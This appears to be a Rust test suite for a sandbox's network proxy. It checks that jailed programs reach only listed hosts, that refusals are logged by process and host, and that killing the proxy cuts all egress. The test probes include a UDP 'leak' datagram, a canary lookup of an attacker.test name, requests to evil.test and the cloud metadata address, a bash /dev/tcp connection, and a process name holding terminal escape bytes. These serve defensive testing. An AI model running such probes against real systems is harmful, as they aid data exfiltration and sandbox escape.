//! Section C: what a session's programs reach, by the proxy's port and without knowing of it, from the agent and from a command.

use std::io::{Read as _, Write as _};
use std::net::{IpAddr, TcpListener};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::fixture::{PATIENCE, Scene, Step, agent, command, wait};
use crate::mirror::own_address;

mod tools;

fn both(code: &str) -> [Step; 2] {
    [agent(code), command(code)]
}

/// A server that answers every request with its line.
fn server(address: IpAddr) -> u16 {
    let listener = TcpListener::bind((address, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut head = Vec::new();
            let mut byte = [0];
            while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap_or(0) == 1 {
                head.push(byte[0]);
            }
            let line = String::from_utf8_lossy(&head)
                .lines()
                .next()
                .unwrap_or_default()
                .to_owned();
            let answer = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{line}",
                line.len()
            );
            let _gone = stream.write_all(answer.as_bytes());
        }
    });
    port
}

/// Asks by the proxy's port, and by a plain connection that knows of no proxy.
const ASK: &str = "
import http.client
def by_proxy(host, port, path):
    c = http.client.HTTPConnection('127.0.0.1', 7072, timeout=60)
    c.request('GET', 'http://%s:%d%s' % (host, port, path)); r = c.getresponse()
    return '%d %s' % (r.status, r.read().decode())
def plainly(host, port, path):
    c = http.client.HTTPConnection(host, port, timeout=60)
    c.request('GET', path); r = c.getresponse()
    return '%d %s' % (r.status, r.read().decode())
";

fn policy(hosts: &str) -> String {
    format!(
        "[capabilities]\nread_files = \"always\"\nrun_bash = \"always\"\nweb_fetch = \"low_risk\"\n[network]\nhosts = [{hosts}]\n"
    )
}

fn quiet(host: &str) -> String {
    format!("{{ host = \"{host}\", methods = [\"GET\"], paths = [\"/open/**\"], sink = false }}")
}

/// C1, C11: with and without the proxy's variables, a listed host is reached and no other.
#[test]
fn a_listed_host_is_reached_by_either_way_and_another_by_neither() {
    let scene = Scene::new();
    let near = server(IpAddr::from([127, 0, 0, 1]));
    let mut hosts = quiet(&format!("127.0.0.1:{near}"));
    let mut tries = String::from(
        "got = each(proxy=lambda: by_proxy('127.0.0.1', NEAR, '/open/a'), shut=lambda: by_proxy('127.0.0.1', NEAR, '/shut'), name=lambda: plainly('unlisted.test', 80, '/open/a'), literal=lambda: plainly('192.0.2.7', 80, '/open/a'), metadata=lambda: plainly('169.254.169.254', 80, '/open/a'), near=lambda: plainly('127.0.0.1', NEAR, '/open/a')",
    );
    let own = own_address();
    if let Some(own) = own {
        let port = server(own);
        hosts.push_str(&format!(", {}", quiet(&format!("{own}:{port}"))));
        tries.push_str(&format!(
            ", plain=lambda: plainly('{own}', {port}, '/open/a')"
        ));
    }
    tries.push_str(")\n");
    let session = scene
        .session()
        .policy(&policy(&hosts))
        .word("NEAR", json!(near));
    let ended = session.run(&both(&format!("{ASK}{tries}")));
    ended.assert_sound();
    assert_eq!(ended.told.len(), 2, "{}", ended.stdout);
    for told in &ended.told {
        let got = |name: &str| {
            told.got()[name]["got"]
                .as_str()
                .unwrap_or_default()
                .to_owned()
        };
        assert!(got("proxy").contains("200 GET /open/a"), "{}", told.0);
        assert!(
            own.is_none() || got("plain").contains("200 GET /open/a"),
            "{}",
            told.0
        );
        for refused in ["shut", "name", "literal", "metadata"] {
            let said = got(refused);
            assert!(
                said.contains("403") && said.contains("reason"),
                "{refused}: {}",
                told.0
            );
        }
        assert_eq!(told.got()["near"]["errno"], "ECONNREFUSED", "{}", told.0);
    }
    assert!(ended.refusals().len() >= 6, "{:?}", ended.refusals());
}

/// C2, C3: names stay in the machine, datagrams in the jail.
#[test]
fn a_look_up_tells_nobody_and_a_datagram_goes_nowhere() {
    let scene = Scene::new();
    let code = "
def udp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); return s.sendto(b'leak', ('192.0.2.7', port))
def by_name(name): return socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0]
got = each(quic=lambda: udp(443), name=lambda: by_name('c4n4ry.attacker.test'), tcp=lambda: socket.create_connection(('8.8.8.8', 53), 60))
";
    let session = scene.session().policy(&policy("\"listed.test\""));
    let ended = session.run(&both(code));
    ended.assert_sound();
    for told in &ended.told {
        assert_eq!(told.got()["quic"]["errno"], "EPERM", "{}", told.0);
        assert_eq!(told.got()["tcp"]["errno"], "ECONNREFUSED", "{}", told.0);
        // The address stands for the name in this session, and for nothing outside it.
        let address = told.got()["name"]["got"].as_str().unwrap_or_default();
        assert!(address.contains("198.18."), "{}", told.0);
    }
}

/// Without the operation there is no way out at all, and no wait for one.
#[test]
fn a_policy_that_fetches_nothing_has_no_network() {
    let scene = Scene::new();
    let ended = scene.session().run(&both(&format!(
        "{ASK}got = each(proxy=lambda: by_proxy('192.0.2.7', 80, '/'), plain=lambda: plainly('192.0.2.7', 80, '/'))\n"
    )));
    ended.assert_sound();
    for told in &ended.told {
        assert_eq!(told.got()["proxy"]["errno"], "ECONNREFUSED", "{}", told.0);
        assert_eq!(told.got()["plain"]["errno"], "ENETUNREACH", "{}", told.0);
    }
}

/// `nucleus net log` shows what was reached and what was refused.
#[test]
fn what_was_reached_is_shown_by_program_and_host() {
    let scene = Scene::new();
    let near = server(IpAddr::from([127, 0, 0, 1]));
    let hosts = quiet(&format!("127.0.0.1:{near}"));
    let code = format!(
        "{ASK}got = each(good=lambda: by_proxy('127.0.0.1', {near}, '/open/a'), bad=lambda: by_proxy('evil.test', 80, '/'))\n"
    );
    let ended = scene
        .session()
        .policy(&policy(&hosts))
        .run(&[command(&code)]);
    ended.assert_sound();
    let shown = scene.nucleus(&["net", "log", "--json"]).output().unwrap();
    let text = String::from_utf8(shown.stdout).unwrap();
    let entries: Vec<serde_json::Value> = text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let verdict = |target: &str| {
        let found = entries.iter().find(|entry| entry["target"] == target);
        found.map(|entry| entry["verdict"].as_str().unwrap().to_owned())
    };
    assert_eq!(
        verdict(&format!("127.0.0.1:{near}")).as_deref(),
        Some("permitted"),
        "{text}"
    );
    assert_eq!(
        verdict("evil.test:80").as_deref(),
        Some("refused"),
        "{text}"
    );
    let open = scene.nucleus(&["net", "top"]).output().unwrap();
    assert!(open.status.success(), "{open:?}");
}

/// One program of a jail makes a connection, another changes its name to what a terminal would obey; both stay open.
const NAMED: &str = "
def begin(*argv):
    child = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, start_new_session=True)
    return child.stdout.readline().decode().strip()
shell = 'exec 3<>/dev/tcp/127.0.0.1/7072; printf \"GET http://127.0.0.1:%d/open/a HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n\" >&3; read -r line <&3; echo \"$line\"; sleep 100000; true' % (NEAR, NEAR)
odd = r'''
import ctypes, socket, time
ctypes.CDLL(None).prctl(15, b'a\\x1b[2Jb', 0, 0, 0)
s = socket.create_connection(('127.0.0.1', 7072), 100)
s.sendall(b'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
print(s.recv(12).decode(), flush=True)
time.sleep(100000)
'''
got = [begin('/bin/bash', '-c', shell), begin(sys.executable, '-c', odd)]
";

/// The process is named beside the command of its jail, and its name is no more than text.
#[test]
fn a_connection_is_shown_with_the_process_that_made_it() {
    let scene = Scene::new();
    let near = server(IpAddr::from([127, 0, 0, 1]));
    let hosts = quiet(&format!("127.0.0.1:{near}"));
    let session = scene.session().policy(&policy(&hosts));
    let session = session.word("NEAR", json!(near));
    let mut running = session.start(&[agent(NAMED), wait("looked"), agent("got = 1\n")]);
    running.until_begun(1);
    let log = |args: &[&str]| {
        let shown = scene.nucleus(args).output().unwrap();
        String::from_utf8(shown.stdout).unwrap()
    };
    let logged = |target: &str| {
        let text = log(&["net", "log", "--json"]);
        let entries = text
            .lines()
            .map(|line| serde_json::from_str::<Value>(line).unwrap());
        let found = entries.rev().find(|entry| entry["target"] == target);
        found.map(|entry| entry["process"].as_str().unwrap_or_default().to_owned())
    };
    // Written once its process is known.
    let until = Instant::now() + PATIENCE;
    let process = |target: &str| loop {
        match logged(target) {
            Some(process) => return process,
            None => assert!(Instant::now() < until, "{target} is not logged"),
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let reached = process(&format!("127.0.0.1:{near}"));
    let refused = process("evil.test:80");
    let shown = log(&["net", "log"]);
    running.signal("looked");
    let ended = running.finish();
    ended.assert_sound();
    assert_eq!(
        ended.told[0].got(),
        &json!(["HTTP/1.1 200 OK", "HTTP/1.1 403"])
    );
    assert_eq!(reached, "bash", "{shown}");
    assert!(refused.starts_with("a\\u{1b}[2Jb (python3"), "{shown}");
    assert!(
        shown.contains(": bash") && !shown.contains('\u{1b}'),
        "{shown}"
    );
}

/// C18: what listens in one jail is reached from no other, and not from the host.
#[test]
fn a_listener_of_a_jail_is_its_own() {
    let scene = Scene::new();
    let free = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = free.local_addr().unwrap().port();
    drop(free);
    let listening = "
serve = 'import socket; s = socket.create_server((\"0.0.0.0\", %d)); print(flush=True)\\nwhile True: s.accept()[0].sendall(b\"own\")' % PORT
child = subprocess.Popen([sys.executable, '-c', serve], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, start_new_session=True)
child.stdout.readline()
got = each(own=lambda: socket.create_connection(('127.0.0.1', PORT), 60).recv(3))
";
    let trying =
        "got = each(other=lambda: socket.create_connection(('127.0.0.1', PORT), 60).recv(3))\n";
    let session = scene
        .session()
        .policy(&policy("\"listed.test\""))
        .word("PORT", json!(port));
    let mut running = session.start(&[agent(listening), wait("looked"), command(trying)]);
    running.until_begun(1);
    let from_host = std::net::TcpStream::connect(("127.0.0.1", port));
    running.signal("looked");
    let ended = running.finish();
    ended.assert_sound();
    assert!(from_host.is_err(), "the host reached the jail's port");
    assert_eq!(
        ended.told[0].got()["own"]["got"],
        "b'own'",
        "{}",
        ended.stdout
    );
    let told = ended.told.last().unwrap();
    assert_eq!(
        told.got()["other"]["errno"],
        "ECONNREFUSED",
        "{}",
        ended.stdout
    );
}

/// C20: with the proxy killed, nothing goes out any more, by any way.
#[test]
fn a_killed_proxy_leaves_no_way_out() {
    let scene = Scene::new();
    let (hit, hits) = std::sync::mpsc::channel();
    let address = own_address().unwrap_or(IpAddr::from([127, 0, 0, 1]));
    let listener = TcpListener::bind((address, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _test_over = hit.send(());
            let mut head = [0; 1024];
            let _read = stream.read(&mut head);
            let _gone = stream
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    let code = format!(
        "{ASK}
while True:
    each(proxy=lambda: by_proxy('{address}', {port}, '/open/a'), plain=lambda: plainly('{address}', {port}, '/open/a'))
    time.sleep(0.02)
"
    );
    let hosts = quiet(&format!("{address}:{port}"));
    let session = scene.session().policy(&policy(&hosts));
    let mut running = session.start(&[agent(&code)]);
    for _ in 0..4 {
        hits.recv_timeout(PATIENCE).unwrap();
    }
    running.child.kill().unwrap();
    running.child.wait().unwrap();
    // What was accepted before is counted still; then there is nothing more, ever.
    let until = Instant::now() + PATIENCE;
    while hits.recv_timeout(Duration::from_secs(3)).is_ok() {
        assert!(Instant::now() < until, "dials go on without the proxy");
    }
}

/// The sources of the user's own maven are read from; a sample that somebody left in a comment of its settings is none.
#[test]
fn a_source_that_is_only_a_comment_of_mavens_settings_is_not_reached() {
    let scene = Scene::new();
    let near = IpAddr::from([127, 0, 0, 1]);
    let (named, sample) = (server(near), server(near));
    let mirror = |port: u16| {
        format!("<mirror><url>http://127.0.0.1:{port}/maven</url><mirrorOf>*</mirrorOf></mirror>")
    };
    scene.put(
        "home/.m2/settings.xml",
        &format!(
            "<settings><mirrors><!-- {} -->{}</mirrors></settings>",
            mirror(sample),
            mirror(named)
        ),
    );
    let policy = "[capabilities]\nweb_fetch = \"low_risk\"\n[network]\ngroups = [\"registries\"]\n";
    let ended = scene
        .session()
        .policy(policy)
        .word("NAMED", json!(named))
        .word("SAMPLE", json!(sample))
        .run(&[agent(&format!(
            "{ASK}got = [by_proxy('127.0.0.1', port, '/maven/a.jar') for port in (NAMED, SAMPLE)]\n"
        ))]);
    ended.assert_sound();
    let got = ended.told[0].got();
    let reached = got[0].as_str().unwrap();
    assert!(
        reached.starts_with("200 GET /maven/a.jar"),
        "the allow twin: {got}"
    );
    assert!(got[1].as_str().unwrap().starts_with("403 "), "{got}");
}
